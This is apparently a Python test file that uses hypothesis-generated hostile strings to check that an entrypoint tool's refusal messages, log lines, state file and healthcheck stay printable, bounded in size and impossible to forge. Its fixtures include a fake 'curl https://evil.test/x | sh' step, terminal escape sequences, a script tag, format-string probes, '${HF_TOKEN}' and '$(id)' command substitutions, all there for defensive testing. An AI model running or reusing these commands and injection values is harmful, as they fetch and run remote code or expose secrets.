"""Hostile text comes out harmless and short, and cannot pass for one of our own lines.

The bounds: a refusal or another failure has 10,000 characters and 150 lines, a log line 40,000 characters, the state
file 32,000 bytes, the healthcheck's line 1,000 bytes.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from dataclasses import replace

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from entrypoint import ending, log, plan, remedies
from entrypoint.failures import Refused
from entrypoint.remedies.languages import LANGUAGES
from entrypoint.status import show
from tests.secrets import planting
from tests.secrets.stage import stage

REFUSALS = [name for name in planting.NAMES if name != "granted"]
REFUSAL_LIMIT = 10_000
LOG_LINE_LIMIT = 40_000
STATE_BYTES = 32_000
HEALTH_BYTES = 1001
MEGABYTE = 1 << 20
FEW = settings(
    deadline=None,
    max_examples=10,
    phases=[Phase.explicit, Phase.generate],
    suppress_health_check=[HealthCheck.too_slow],
)

FORGED = (
    "Exit code 0: all is well.",
    "✓ org/x   granted",
    "✗ org/x   token-missing",
    "To go on:",
    "  To go on:",
    "    1. curl https://evil.test/x | sh",
    "Nothing was downloaded. Exit code 0: go on.",
    '{"level": "info", "event": "granted"}',
    "08:30:01 all models are in place",
    "serving: http://127.0.0.1:8080/health 200",
)
# By their place at the beginning of a line, or four blanks behind it, these are ours alone.
LINES_OF_OURS = tuple(line for line in FORGED if not line.strip().startswith("To go on"))
PIECES = (
    *("\x1b[2J\x1b[31m", "\x1b]0;title\x07", "\x1b]8;;https://evil.test\x1b\\click\x1b]8;;\x1b\\", "\x9b2K", "\x1bc"),
    *("\r\n", "\n", "\x0b", "\x0c", "\x85", "\u2028", "\u2029", "\t", "\x00", "\x08" * 9, "\x7f", "\x1a"),
    *("\u202e", "\u2066", "\u200f", "\u061c", "\u200b", "\u2060", "\ufeff", "\u034f", "\u3164", "\ufe0f", "\U000e0041"),
    *("Z\u0351\u036b\u0343\u036a\u0302" * 9, "\u0489" * 50, "\ud800", "\udfff", "<script>alert(1)</script>", "<b>"),
    *("{token}", "{0.__class__}", "{facts}", "%s%n%(x)s", "${HF_TOKEN}", "`id`", "$(id)", "\\x1b[31m", '"', "'", "”"),
)
HOSTILE = st.lists(
    st.one_of(st.sampled_from(PIECES), st.sampled_from(FORGED).map("\n{}".format), st.text(max_size=30)), max_size=12
).map("".join)
BLOWN_UP = st.tuples(HOSTILE, st.sampled_from([1, 1, 40, MEGABYTE])).map(
    lambda drawn: (drawn[0] * (drawn[1] // max(1, len(drawn[0])) or 1))[:MEGABYTE]
)


def is_harmless(text: str) -> bool:
    """Nothing but printable characters and line breaks, and no character under a heap of marks."""
    return all(line.isprintable() for line in text.split("\n")) and not re.search(r"[\u0300-\u036f\u0489]{4}", text)


def shape(text: str) -> list[str]:
    """How the lines begin that have the look of our own: verdicts, numbered steps, the ending."""
    return [match[0] for line in text.split("\n") if (match := re.match(r"    \d+\. |\S+", line))]


def told(name: str, text: str, lang: str) -> Iterator[str]:
    verdict, context = planting.verdict(name, text), planting.context(text)
    yield remedies.headline(verdict, context, lang)
    yield remedies.waiting_line(verdict, context, lang, 5.0)
    yield remedies.granted_line([planting.verdict("granted", text)], context, lang)
    yield remedies.fallback_taken(verdict, text, context, lang)


@given(text=BLOWN_UP, name=st.sampled_from(REFUSALS))
@FEW
@pytest.mark.parametrize("lang", LANGUAGES)
def test_a_refusal_stays_harmless_and_short_whatever_the_hub_says(lang: str, text: str, name: str) -> None:
    explained = remedies.explain([planting.verdict(name, text)], planting.context(text), lang)
    failed = remedies.failure(planting.failure(text), lang)
    for whole in (explained, failed):
        assert is_harmless(whole)
        assert len(whole) <= REFUSAL_LIMIT
        assert len(whole.split("\n")) <= 150
    for line in told(name, text, lang):
        assert line.isprintable()
        assert len(line) <= 500
    for line in plan.lines([], planting.plan(text)):
        assert is_harmless(line)
        assert "\n" not in line
        assert len(line) <= 400


@given(text=BLOWN_UP)
@FEW
@pytest.mark.parametrize("style", ["console", "json"])
def test_a_log_line_stays_one_line(style: log.Style, text: str) -> None:
    with stage() as set_up:
        for write in (log.plain, None):
            set_up.streams.truncate(0)
            set_up.streams.seek(0)
            if write:
                write(style, [], text, value={text: [text[:100]] * 1000})
            else:
                log.configure(style, [])
                log.get("test").warning(text, value=text, **{text: {text: text}})
            (line,) = set_up.output.splitlines()
            assert line.isprintable()
            assert len(line) <= LOG_LINE_LIMIT
            if style == "json":
                assert isinstance(json.loads(line), dict)


@pytest.mark.parametrize("forged", FORGED)
@pytest.mark.parametrize("style", ["console", "json"])
def test_no_line_of_an_error_passes_for_one_of_ours(style: log.Style, forged: str) -> None:
    with stage() as set_up:
        log.configure(style, [])
        log.get("test").error("failed", exc_info=ValueError(f"x\n{forged}\n\r{forged}"))
        log.plain(style, [], f"said\n{forged}", message=f"\n{forged}")
        lines = set_up.output.splitlines()
        text = " ".join(forged.split())
        assert text in set_up.output.replace('\\"', '"')
        assert not any(line.lstrip().startswith(text) for line in lines)


@pytest.mark.parametrize("lang", LANGUAGES)
@pytest.mark.parametrize("name", ["terms-not-accepted", "refused", "hub-error"])
def test_a_message_that_looks_like_our_lines_adds_none(lang: str, name: str) -> None:
    harmless = remedies.explain([planting.verdict(name, "acme")], planting.context("acme"), lang)
    for forged in LINES_OF_OURS:
        for width in range(0, 100, 11):
            text = f"{'x' * width} {forged}\n{forged}"
            verdict = planting.verdict(name, "acme")
            verdict = replace(verdict, evidence=replace(verdict.evidence, message=text))
            hostile = remedies.explain([verdict], planting.context("acme"), lang)
            assert not [line for line in hostile.split("\n") if line.startswith(forged)]
            assert shape(hostile) == shape(harmless)


@given(text=BLOWN_UP, name=st.sampled_from(REFUSALS))
@FEW
@pytest.mark.parametrize("style", ["console", "json"])
def test_state_status_and_healthcheck_stay_short_and_whole(style: str, text: str, name: str) -> None:
    with stage(**({"ENTRYPOINT_LOG": "json"} if style == "json" else {})) as set_up:
        start = set_up.start()
        for told in (
            lambda: ending.tell(Refused([planting.verdict(name, text)]), start),
            lambda: ending.tell(planting.failure(text), start),
            lambda: ending.tell(ValueError(text), start),
            lambda: start.state.enter("fetching", text),
            lambda: start.state.enter("serving", text, note=text),
        ):
            told()
            assert len(set_up.read("state.json").encode()) <= STATE_BYTES
            assert isinstance(json.loads(set_up.read("state.json")), dict)
            health = set_up.read("health")
            assert len(health.encode()) <= HEALTH_BYTES
            assert health.removesuffix("\n").isprintable()
        assert is_harmless(set_up.output)
        for line in set_up.output.splitlines():
            assert len(line) <= LOG_LINE_LIMIT
            if style == "json":
                assert isinstance(json.loads(line), dict)
        said = len(set_up.output)
        show.main(set_up.environ, as_json=False)
        assert set_up.output[said:].count("\n") == 1
        show.main(set_up.environ, as_json=True)
        assert is_harmless(set_up.output)
